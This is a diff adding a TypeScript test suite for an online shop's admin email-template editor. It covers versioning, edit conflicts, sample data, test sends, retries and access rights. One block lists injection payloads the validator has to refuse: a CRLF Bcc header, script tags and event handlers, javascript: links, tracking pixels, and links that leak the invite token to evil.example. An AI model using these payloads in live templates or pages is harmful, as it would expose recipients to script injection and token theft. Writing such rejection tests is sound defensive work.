@@ -1,0 +1,322 @@
+import { randomUUID } from 'node:crypto';
+import { beforeAll, describe, expect, test } from 'vitest';
+import { db } from '../one-shop.ts';
+import type { Caller } from '../support.ts';
+import { said } from '../vendor/product-support.ts';
+import { makeAdmin } from './admin-support.ts';
+
+type Template = { subject: string; html: string; text: string };
+type Sheet = Template & {
+  version: number;
+  built_in: Template;
+  sample: Record<string, unknown>;
+  variables: { name: string; is_needed: boolean }[];
+  versions: { number: number; is_built_in: boolean }[];
+};
+
+const key = 'vendor-invitation';
+let one: Caller;
+let two: Caller;
+let content: { id: string; caller: Caller };
+let support: Caller;
+beforeAll(async () => {
+  content = await makeAdmin('content');
+  [one, two] = [content.caller, (await makeAdmin('super')).caller];
+  support = (await makeAdmin('support')).caller;
+});
+
+const read = async (of = key) => (await one.rpc('admin_email', { key: of })).body as Sheet;
+const save = (caller: Caller, version: number, template: Template, of = key) =>
+  caller.rpc('save_email', { key: of, version, ...template });
+const sent = async () => (await db.service.rpc('mail_template', { key })).body as { edited: Template | null };
+
+describe('the mails of the shop', () => {
+  test('that it comes with pass their own rules', async () => {
+    expect(
+      await db.sql(
+        `select t.key, private.template_problems(t, t.subject, t.html, t.text) as problems from public.email_templates t
+         where private.template_problems(t, t.subject, t.html, t.text) <> '{}'`,
+      ),
+    ).toEqual([]);
+  });
+
+  test('are edited version by version, and go back to the built-in one', async () => {
+    const sheet = await read();
+    const mine = { ...sheet.built_in, subject: 'Come and sell with us' };
+    expect((await save(one, sheet.version, mine)).body).toEqual({
+      outcome: 'saved',
+      version: sheet.version + 1,
+    });
+    expect((await sent()).edited).toMatchObject(mine);
+    expect(await read()).toMatchObject({ ...mine, version: sheet.version + 1 });
+    expect((await save(two, sheet.version + 1, sheet.built_in)).body).toMatchObject({ outcome: 'saved' });
+    expect((await sent()).edited).toBeNull();
+    const { versions } = await read();
+    expect(versions.slice(0, 2)).toMatchObject([
+      { number: sheet.version + 2, is_built_in: true },
+      { number: sheet.version + 1, is_built_in: false },
+    ]);
+    const old = await one.rpc('admin_email_version', { key, number: sheet.version + 1 });
+    expect(old.body).toEqual(mine);
+    const logged = await db.sql<{ action: string; actor_id: string }>(
+      "select action, actor_id from public.audit_log where subject_type = 'email' and subject_id = $1 order by id desc limit 2",
+      [key],
+    );
+    expect(logged.map(({ action }) => action)).toEqual(['email.edited', 'email.edited']);
+    expect(logged[1]?.actor_id).toBe(content.id);
+  });
+
+  test('edited by two at once have one winner, and the other one is told', async () => {
+    const { version, built_in } = await read();
+    const replies = await Promise.all(
+      [one, two].map((caller, at) => save(caller, version, { ...built_in, subject: `Version of ${at}` })),
+    );
+    expect(replies.map(({ body }) => (body as { outcome: string }).outcome).sort()).toEqual([
+      'conflict',
+      'saved',
+    ]);
+    expect((await read()).version).toBe(version + 1);
+  });
+
+  test('name their variables, and those that nobody may leave out', async () => {
+    const { variables } = await read();
+    expect(variables).toContainEqual({ name: 'token', is_needed: true });
+    expect(variables).toContainEqual({ name: 'store_name', is_needed: false });
+    expect(variables).toContainEqual({ name: 'brand.name', is_needed: false });
+  });
+
+  test('are shown with other words than those of the people who got them', async () => {
+    const email = `${randomUUID()}@people.test`;
+    await db.sql(
+      `insert into public.email_outbox (template, to_email, payload, dedupe_key)
+       values ('order-confirmation', $1, $2, $1)`,
+      [
+        email,
+        {
+          first_name: 'Zebediah',
+          reference: 'SB-REAL01',
+          orders: [{ vendor_name: 'Secret', items: [{ title: 'Chalk', quantity: 3 }] }],
+        },
+      ],
+    );
+    const { sample } = await read('order-confirmation');
+    expect(JSON.stringify(sample)).not.toMatch(/Zebediah|SB-REAL01|Secret|Chalk|people\.test/);
+    expect(sample).toMatchObject({
+      first_name: 'Sam',
+      orders: [{ vendor_name: 'Iron Works', items: [{ title: 'Title' }] }],
+    });
+  });
+
+  test('are tried with a mail to whoever edits them, which leaves nothing of the draft behind', async () => {
+    const { built_in } = await read();
+    const draft = { ...built_in, subject: 'A draft for {{store_name}}' };
+    const reply = await one.rpc('test_email', { key, ...draft });
+    const { address } = reply.body as { address: string };
+    const [mail] = await db.sql<{ id: string; payload: unknown; secrets: { draft: Template } }>(
+      `select o.id, o.payload, q.secrets from public.email_outbox o left join private.email_queue q on q.email_id = o.id
+       where o.template = 'template-test' and o.to_email = $1`,
+      [address],
+    );
+    expect(mail?.payload).toEqual({ reference: key });
+    expect(mail?.secrets.draft.subject).toBe('[Test] A draft for {{store_name}}');
+    for (let n = 0; n < 9; n += 1) await one.rpc('test_email', { key, ...draft });
+    expect(said(await one.rpc('test_email', { key, ...draft }))).toBe('429 too_many_attempts');
+    expect((await read()).subject).not.toBe(draft.subject);
+  });
+});
+
+describe('what an edited mail cannot say', () => {
+  const link = '<a href="{{site_url}}/auth?invite={{token}}">Accept</a>';
+  const refused: readonly (readonly [string, string, Partial<Template>, RegExp])[] = [
+    ['a header of its own', 'subject', { subject: 'Hello\r\nBcc: everybody@evil.example' }, /one line/],
+    ['a subject of nothing', 'subject', { subject: '  ' }, /needs a subject/],
+    ['a variable of another mail', 'subject', { subject: 'For {{first_name}}' }, /no variable/],
+    ['an unescaped variable', 'html', { html: `${link}{{{store_name}}}` }, /neither/],
+    ['an unescaped variable by &', 'html', { html: `${link}{{&store_name}}` }, /neither/],
+    ['a partial', 'html', { html: `${link}{{> other}}` }, /neither/],
+    ['another delimiter', 'html', { html: `${link}{{=<% %>=}}` }, /neither/],
+    ['a part that never ends', 'html', { html: `${link}{{#store_name}}` }, /never ended/],
+    [
+      'parts that cross',
+      'text',
+      { text: '{{token}}{{#store_name}}{{^takeover}}{{/store_name}}{{/takeover}}' },
+      /not open/,
+    ],
+    ['a script', 'html', { html: `${link}<script>alert(1)</script>` }, /cannot be part/],
+    ['a script in capitals', 'html', { html: `${link}<SCRIPT src="//evil.example">` }, /cannot be part/],
+    ['a script that a comment hides', 'html', { html: `${link}<!--><script>--><p>` }, /cannot be part/],
+    ['a picture that runs', 'html', { html: `${link}<img src=x onerror=alert(1)>` }, /cannot be part/],
+    ['a quoted handler', 'html', { html: `${link}<p onclick="alert(1)">` }, /onclick/],
+    ['a handler after a slash', 'html', { html: `${link}<p/onclick="alert(1)">` }, /cannot be part/],
+    ['a drawing with a script', 'html', { html: `${link}<svg onload="alert(1)">` }, /cannot be part/],
+    ['a frame', 'html', { html: `${link}<iframe src="https://evil.example"></iframe>` }, /cannot be part/],
+    [
+      'a form',
+      'html',
+      { html: `${link}<form action="https://evil.example"><input name="password"></form>` },
+      /cannot be part/,
+    ],
+    [
+      'a refresh',
+      'html',
+      { html: `${link}<meta http-equiv="refresh" content="0;url=https://evil.example">` },
+      /http-equiv/,
+    ],
+    ['a base', 'html', { html: `${link}<base href="https://evil.example">` }, /cannot be part/],
+    [
+      'a style sheet',
+      'html',
+      { html: `${link}<link rel="stylesheet" href="https://evil.example">` },
+      /cannot be part/,
+    ],
+    ['a script as an address', 'html', { html: `${link}<a href="javascript:alert(1)">x</a>` }, /Links lead/],
+    [
+      'a script as an address in entities',
+      'html',
+      { html: `${link}<a href="java&#115;cript:alert(1)">x</a>` },
+      /Links lead/,
+    ],
+    ['data as an address', 'html', { html: `${link}<a href="data:text/html,x">x</a>` }, /Links lead/],
+    [
+      'a secret in the address of another site',
+      'html',
+      { html: `${link}<a href="https://evil.example/?{{token}}">x</a>` },
+      /Links lead/,
+    ],
+    [
+      'another site that begins as the shop',
+      'html',
+      { html: `${link}<a href="{{site_url}}.evil.example/{{token}}">x</a>` },
+      /Links lead/,
+    ],
+    [
+      'a picture that counts readers',
+      'html',
+      { html: `${link}<img src="https://evil.example/p.gif">` },
+      /Pictures come/,
+    ],
+    [
+      'a picture with a secret',
+      'html',
+      { html: `${link}<img src="{{site_url}}/p.gif?{{token}}">` },
+      /Pictures come/,
+    ],
+    [
+      'a style that loads',
+      'html',
+      { html: `${link}<p style="background:url(https://evil.example)">` },
+      /Styles cannot/,
+    ],
+    ['a style with escapes', 'html', { html: `${link}<p style="background:u\\72l(x)">` }, /Styles cannot/],
+    [
+      'a sheet that imports',
+      'html',
+      { html: `<style>@import "https://evil.example";</style>${link}` },
+      /Styles cannot/,
+    ],
+    ['a cover over everything', 'html', { html: `${link}<div style="position:fixed">` }, /Styles cannot/],
+    ['no link', 'html', { html: '<p>Hello {{token}}</p>' }, /could follow/],
+    ['no link in plain text', 'text', { text: 'Hello' }, /needs the link/],
+    ['too much', 'html', { html: `${link}${'x'.repeat(50_000)}` }, /50,000/],
+  ];
+
+  test.each(refused)('%s', async (_, field, changes, sentence) => {
+    const { version, built_in } = await read();
+    const reply = await save(one, version, { ...built_in, ...changes });
+    expect(said(reply)).toBe('422 template_invalid');
+    const problems = JSON.parse((reply.body as { hint: string }).hint) as Record<string, string>;
+    expect(Object.keys(problems)).toEqual([field]);
+    expect(problems[field]).toMatch(sentence);
+    expect(said(await one.rpc('test_email', { key, ...built_in, ...changes }))).toBe('422 template_invalid');
+    expect((await read()).version).toBe(version);
+  });
+});
+
+describe('the mails that went out', () => {
+  type Mail = { id: string; status: string; attempts: number; reason: string | null; may_retry: boolean };
+  const log = async (wish: Record<string, unknown>, caller = support) =>
+    (await caller.rpc('admin_sent_emails', wish)).body as {
+      rows: Mail[];
+      next: object | null;
+      counts: { failed: number };
+    };
+  const write = async (address: string) => {
+    const [row] = await db.sql<{ id: string }>(
+      `insert into public.email_outbox (template, to_email, payload, dedupe_key) values ($1, $2, '{"note": "zebra"}', $3) returning id`,
+      [key, address, randomUUID()],
+    );
+    // Of this test alone: another one may claim what is due.
+    await db.sql(
+      "update private.email_queue set next_attempt_at = now() + interval '1 hour' where email_id = $1",
+      [row?.id],
+    );
+    return row?.id ?? '';
+  };
+  const fail = async (id: string, attempts: number) => {
+    await db.sql('update private.email_queue set attempts = $2 where email_id = $1', [id, attempts]);
+    await db.service.rpc('record_email', { email_id: id, status: 'failed', error: 'no such mailbox' });
+  };
+
+  test('are listed by address, page by page, with how each went and nothing that it said', async () => {
+    const address = `${randomUUID()}@people.test`;
+    const ids = [await write(address), await write(address), await write(address), await write(address)];
+    await db.service.rpc('record_email', { email_id: ids[0], status: 'sent' });
+    await fail(ids[1]!, 1);
+    await fail(ids[2]!, 8);
+    const first = await log({ address: address.toUpperCase(), page_size: 3 });
+    expect(first.rows).toMatchObject([
+      { id: ids[3], status: 'waiting', attempts: 0, reason: null },
+      { id: ids[2], status: 'failed', attempts: 8, reason: 'no such mailbox', may_retry: true },
+      { id: ids[1], status: 'retrying', attempts: 1, may_retry: false },
+    ]);
+    expect((await log({ address, page_size: 3, after: first.next })).rows).toMatchObject([
+      { id: ids[0], status: 'sent' },
+    ]);
+    expect(JSON.stringify(first)).not.toContain('zebra');
+    expect((await log({ address, view: 'failed' })).rows.map(({ id }) => id)).toEqual([ids[2]]);
+    expect((await log({ address, view: 'waiting' })).rows.map(({ id }) => id)).toEqual([ids[3], ids[1]]);
+    expect((await log({ address, template: 'order-confirmation' })).rows).toEqual([]);
+    expect((await log({})).counts.failed).toBeGreaterThan(0);
+  });
+
+  test('that failed are tried once more, however often somebody asks', async () => {
+    const id = await write(`${randomUUID()}@people.test`);
+    expect(said(await support.rpc('retry_email', { email_id: id }))).toBe('409 email_not_failed');
+    await fail(id, 8);
+    const replies = await Promise.all([1, 2, 3].map(() => support.rpc('retry_email', { email_id: id })));
+    expect(replies.map(said).sort()).toEqual([
+      expect.stringMatching(/^200/),
+      '409 email_not_failed',
+      '409 email_not_failed',
+    ]);
+    await fail(id, 9);
+    expect(
+      await db.sql('select dead_at is not null as dead from private.email_queue where email_id = $1', [id]),
+    ).toEqual([{ dead: true }]);
+    expect(said(await support.rpc('retry_email', { email_id: randomUUID() }))).toBe('404 email_unknown');
+  });
+
+  test('that failed are forgotten with their secrets after a week', async () => {
+    const id = await write(`${randomUUID()}@people.test`);
+    await fail(id, 8);
+    await db.sql("update private.email_queue set dead_at = now() - interval '8 days' where email_id = $1", [
+      id,
+    ]);
+    await db.service.rpc('forget_failed_emails');
+    expect(await db.sql('select 1 from private.email_queue where email_id = $1', [id])).toEqual([]);
+    expect(said(await support.rpc('retry_email', { email_id: id }))).toBe('409 email_not_failed');
+  });
+
+  test('are not for those who write mails', async () => {
+    expect(said(await one.rpc('admin_sent_emails', {}))).toBe('403 right_missing');
+    expect(
+      said(await support.rpc('save_email', { key, version: 0, subject: 'a', html: 'b', text: 'c' })),
+    ).toBe('403 right_missing');
+    const finance = (await makeAdmin('finance')).caller;
+    for (const procedure of ['admin_emails', 'retry_email']) {
+      expect(
+        said(await finance.rpc(procedure, procedure === 'retry_email' ? { email_id: randomUUID() } : {})),
+      ).toBe('403 right_missing');
+    }
+  });
+});
